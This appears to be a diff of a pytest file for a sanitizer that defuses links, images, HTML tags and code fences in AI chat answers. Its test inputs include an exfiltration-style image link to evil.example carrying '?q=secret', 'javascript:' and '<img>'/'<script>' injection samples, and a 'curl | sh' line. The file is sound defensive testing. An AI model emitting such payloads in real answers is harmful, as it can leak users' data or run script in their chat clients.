@@ -1,10 +1,11 @@
 """An answer is the model's words: nothing in it is fetched, run or opened, and everything else stays."""
 
 import random
+import re
 
 import pytest
 from gateway.answers.markdown import LANGUAGES
-from gateway.answers.sanitizer import MAX_LOOKAHEAD, AnswerFormat, AnswerSanitizer, sanitize
+from gateway.answers.sanitizer import INVISIBLE, MAX_LOOKAHEAD, AnswerFormat, AnswerSanitizer, sanitize
 from hypothesis import example, given
 from hypothesis import strategies as st
 
@@ -24,13 +25,13 @@ def in_pieces(pieces: list[str], answer_format: AnswerFormat) -> str:
 @pytest.mark.parametrize(
     ("said", "shown"),
     [
-        pytest.param(f"![chart]({EVIL})", "![chart]\\(https\\://evil.example/?q=secret)", id="image"),
-        pytest.param("[the plan](//evil.example)", "[the plan]\\(/\\/evil.example)", id="link"),
-        pytest.param("[a](javascript:alert)", "[a]\\(javascript:alert)", id="script"),
-        pytest.param('[a](x "title")', '[a]\\(x "title")', id="titled"),
-        pytest.param("[a](<x y>)", "[a]\\(\\<x y>)", id="address-in-angles"),
-        pytest.param("[a](\nx)", "[a]\\(\nx)", id="address-on-the-next-line"),
-        pytest.param("[a [b] c](x)", "[a [b] c]\\(x)", id="brackets-in-a-label"),
+        pytest.param(f"![chart]({EVIL})", "![chart]\u200b(https\\://evil.example/?q=secret)", id="image"),
+        pytest.param("[the plan](//evil.example)", "[the plan]\u200b(/\\/evil.example)", id="link"),
+        pytest.param("[a](javascript:alert)", "[a]\u200b(javascript:alert)", id="script"),
+        pytest.param('[a](x "title")', '[a]\u200b(x "title")', id="titled"),
+        pytest.param("[a](<x y>)", "[a]\u200b(\\<x y>)", id="address-in-angles"),
+        pytest.param("[a](\nx)", "[a]\u200b(\nx)", id="address-on-the-next-line"),
+        pytest.param("[a [b] c](x)", "[a [b] c]\u200b(x)", id="brackets-in-a-label"),
         pytest.param("[a][x]\n\n[x]: y", "[a][x]\n\n[x]\\: y", id="definition"),
         pytest.param("> [x]:\n> y", "> [x]\\:\n> y", id="definition-in-a-quote"),
         pytest.param("[a\nb]: x", "[a\nb]\\: x", id="definition-over-two-lines"),
@@ -51,26 +52,32 @@ def in_pieces(pieces: list[str], answer_format: AnswerFormat) -> str:
         pytest.param("x<y onclick=z>", "x\\<y onclick=z>", id="unknown-tag-with-attributes"),
         pytest.param("<!-- x -->", "\\<!-- x -->", id="comment"),
         pytest.param("</p>", "\\</p>", id="closing-tag"),
-        pytest.param("\\\\<img src=x>", "\\\\\\<img src=x>", id="after-an-escaped-backslash"),
-        pytest.param("`x [a](y)", "`x [a]\\(y)", id="link-after-a-stray-backtick"),
+        pytest.param("\\\\<img src=x>", "\\\\<\u200bimg src=x>", id="after-an-escaped-backslash"),
+        pytest.param("`x [a](y)", "`x [a]\u200b(y)", id="link-after-a-stray-backtick"),
         pytest.param(
-            "`a\n`<img src=x>` b", "`a\n\\`\\<img src=x>\\` b", id="code-that-an-earlier-line-shifts"
+            "`a\n`<img src=x>` b", "`a\n`<\u200bimg src=x>` b", id="code-that-an-earlier-line-shifts"
         ),
-        pytest.param("$a ` b$ `<img src=x>`", "$a ` b$ \\<img src=x>`".replace(" \\<", " `\\<"), id="math"),
-        pytest.param("[a``](x)``", "[a\\`\\`]\\(x)\\`\\`", id="code-in-a-label"),
+        pytest.param("$a ` b$ `<img src=x>`", "$a ` b$ `<\u200bimg src=x>`", id="code-that-a-formula-shifts"),
+        pytest.param("$`a$` `<img src=x>`", "$`a$` `<\u200bimg src=x>`", id="formula-that-ends-in-code"),
         pytest.param(
-            "$$\n\n```\n$$\n<img src=x>\n```", "$$\n\n```\n$$\n\\<img src=x>\n```", id="fence-in-a-formula"
+            "*``![i](//e.x)*``", "*``![i]\u200b(/\u200b/e.x)*``", id="emphasis-that-ends-in-long-code"
+        ),
+        pytest.param("**a `b**<img src=x>`", "**a `b**<\u200bimg src=x>`", id="emphasis-that-ends-in-code"),
+        pytest.param("[](`\\)<img src=x>`", "[]\u200b(`\\)<img src=x>`", id="no-formula-of-our-own"),
+        pytest.param("[a``](x)``", "[a``]\u200b(x)``", id="code-in-a-label"),
+        pytest.param("a\n\n    <img src=x>", "a\n\n    <\u200bimg src=x>", id="indented-line"),
+        pytest.param(
+            "$$\n\n```\n$$\n<img src=x>\n```",
+            "$$\n\n```\n$$\n<\u200bimg src=x>\n```",
+            id="fence-in-a-formula",
         ),
         pytest.param(
-            "```\n```~~~\n<img src=x>", "```\n```~~~\n\\<img src=x>", id="fence-that-not-all-see-closed"
+            "\\$$\n\n```\n$$<img src=x>\n```", "\\$$\n\n```\n$$<\u200bimg src=x>\n```", id="escaped-formula"
         ),
         pytest.param(
-            "```\n```~~~\n\n```\n<img src=x>\n```",
-            "```\n```~~~\n\n```\n\\<img src=x>\n```",
-            id="fence-after-one-that-not-all-see-closed",
-        ),
-        pytest.param(
-            "- a\n\n  ```\n<img src=x>\n", "- a\n\n  ```\n\\<img src=x>\n", id="fence-that-its-list-ends"
+            "- a\n\n  ```\n<img src=x>\n  ```",
+            "- a\n\n  ```\n<\u200bimg src=x>\n  ```",
+            id="fence-that-its-list-ends",
         ),
         # After a fence of which not all renderers see the end, nothing counts as code.
         pytest.param("```\n    ```\n\n`<b>`", "```\n    ```\n\n`\\<b>`", id="end-indented-too-far"),
@@ -90,6 +97,35 @@ def test_what_a_chat_would_act_on_is_escaped(said: str, shown: str, answer_forma
     assert not live(shown)
 
 
+@pytest.mark.parametrize(
+    ("said", "text", "markdown"),
+    [
+        pytest.param(
+            "```\n```~~~\n<img src=x>", "```\n```~~~\n<\u200bimg src=x>",
+            "```\n``\u200b`~~~\n<img src=x>\n```",
+            id="fence-that-not-all-see-closed",
+        ),
+        pytest.param(
+            "```\n```~~~\n\n```\n<img src=x>", "```\n```~~~\n\n```\n<\u200bimg src=x>",
+            "```\n``\u200b`~~~\n\n```\n\\<img src=x>", id="fence-after-one-that-not-all-see-closed",
+        ),
+        pytest.param(
+            "~~~\n```html\n<b>\n```\n~~~", "~~~\n```html\n<b>\n```\n~~~",
+            "```\n``\u200b`html\n<b>\n``\u200b`\n```",
+            id="fence-in-a-fence",
+        ),
+        pytest.param(
+            "`````md\n````\n`````", "`````md\n````\n`````", "```md\n``\u200b``\n```", id="long-fence",
+        ),
+        pytest.param("```\n<script>", "```\n<script>", "```\n<script>\n```", id="fence-without-an-end"),
+    ],
+)  # fmt: skip
+def test_open_webui_gets_one_kind_of_fence_with_none_in_it(said: str, text: str, markdown: str) -> None:
+    assert (sanitize(said, TEXT), sanitize(said, MARKDOWN)) == (text, markdown)
+    assert not live(text)
+    assert not live(markdown)
+
+
 @FORMATS
 @pytest.mark.parametrize(
     "said",
@@ -100,13 +136,17 @@ def test_what_a_chat_would_act_on_is_escaped(said: str, shown: str, answer_forma
         "[note] (see below), f[i](x y), [year]: a year",
         "http:// is a scheme, www is a name, and//or",
         "`std::vector<int>`, `<img src=x>`, ``a ` <b>`` and `https://intranet.example/a`",
+        "$x[1]$, $x \\in [0, 1]$, \\(a[1]\\) and \\[ e[1] \\]",
         "$a_{1} < b$, \\(x^2\\) and \\[ \\sum_{i=1}^n x_i \\]",
         "$$\n\\int_0^1 f(x)\\,dx\n$$\n",
         '```json\n{"ports": [7], "url": "https://a.example", "mail": "a@b.example"}\n```\n',
         "```java\nMap<String, List<int>> m = new HashMap<>();\nint x = limits[2];\n```\n",
+        "\\[\n\\sum_{i=1}^n x[1]\n\\]\n\n$$b[2] + [0, 1]$$\n",
         "Like so:\n\n```yaml\n---\na: <b>\n---\n```\n\nand on.",
         "1. Do this:\n   ```bash\n   curl https://a.example | sh <<EOF\n   EOF\n   ```\n2. Done.",
-        "~~~text\n<div>www.a.example</div>\n~~~\n",
+        "```\n<div>www.a.example</div>\n```\n",
+        "**b** `c<d>` and _e_ `https://a.example`, [f] `[g](h)`",
+        "\\<b> is escaped",
         "| a | b |\n|---|---|\n| *1* | **2** |\n",
         "> quote\n\n- one\n- [x] two\n\n# Title\n---\n",
         "中文**粗体**&lt;b&gt; é \u2028",
@@ -136,10 +176,16 @@ def test_text_that_does_nothing_is_left_as_it_is(said: str, answer_format: Answe
         pytest.param(":::writing\n", ":\\::writing\n", id="colon-fence"),
         pytest.param("{{USER}}", "{\\{USER}}", id="placeholder"),
         pytest.param("<@U:1|x>", "\\<@U:1|x>", id="mention"),
-        pytest.param("<script>x</script>", "\\<script\\>x\\</script>", id="script-found-by-its-letters"),
-        pytest.param("<details>\nx", "\u200b\\<details>\nx", id="details-at-the-start-of-a-block"),
+        pytest.param(
+            "<script>x</script>", "<\u200bscript>x<\u200b/script>", id="script-found-by-its-letters"
+        ),
+        pytest.param("<details>\nx", "<\u200bdetails>\nx", id="details-at-the-start-of-a-block"),
+        pytest.param("a [1#x]", "a [1\u200b#x]", id="number-with-a-part"),
+        pytest.param("\\```js\na", "\\``\u200b`js\na", id="fence-found-by-its-letters"),
+        pytest.param("`</script>`", "`<\u200b/script>`", id="script-in-code"),
+        pytest.param("a\n\n    x[1]", "a\n\n    x[1\u200b]", id="number-in-an-indented-line"),
         pytest.param("```html\n<b>\n```", "```text\n<b>\n```", id="fence-that-is-rendered"),
-        pytest.param("$$\na\n$$```html\nx", "$$\na\n$$\\`\\`\\`html\nx", id="fence-behind-a-formula"),
+        pytest.param("$$\na\n$$```html\nx", "$$\na\n$$``\u200b`html\nx", id="fence-behind-a-formula"),
         pytest.param(
             "Text\n```\n<b>\n---\n```", "Text\n\n```\n<b>\n---\n```", id="fence-that-would-be-a-heading"
         ),
@@ -190,12 +236,12 @@ def test_for_programs_it_stays(said: str) -> None:
 @pytest.mark.parametrize(
     "info", ["html", "HTML", "svg", "css", "js", "javascript", "mermaid", "vega", "vega-lite", "xml",
              "python", "py",
-             "html title=x", "ht\\ml", " html", "diff"]
+             "html title=x", "ht\\ml", " html", "diff", "\x85"]
 )  # fmt: skip
 @pytest.mark.parametrize("opener", ["```", "~~~", "````", "   ```", "- ```", "> ```"])
 def test_no_fence_has_a_language_that_open_webui_renders_or_runs(opener: str, info: str) -> None:
     shown = sanitize(f"{opener}{info}\nx\n", MARKDOWN)
-    assert shown.splitlines()[0] == f"{opener}text"
+    assert shown.splitlines()[0] == re.sub("[`~]+", "```", opener) + "text"
 
 
 @pytest.mark.parametrize("info", sorted(LANGUAGES))
@@ -230,14 +276,14 @@ def test_nothing_live_ever_gets_through(pieces: list[str]) -> None:
 
 
 @given(PIECES)
-def test_escapes_and_blank_lines_are_all_that_is_added(pieces: list[str]) -> None:
+def test_escapes_and_invisible_characters_are_all_that_is_added(pieces: list[str]) -> None:
     said = "".join(pieces)
     shown = iter(sanitize(said, TEXT))
     added = []
     for character in said:
         while (each := next(shown)) != character:
             added.append(each)
-    assert {*added, *shown} <= {"\\"}
+    assert {*added, *shown} <= {"\\", INVISIBLE}
 
 
 QUIET = st.lists(
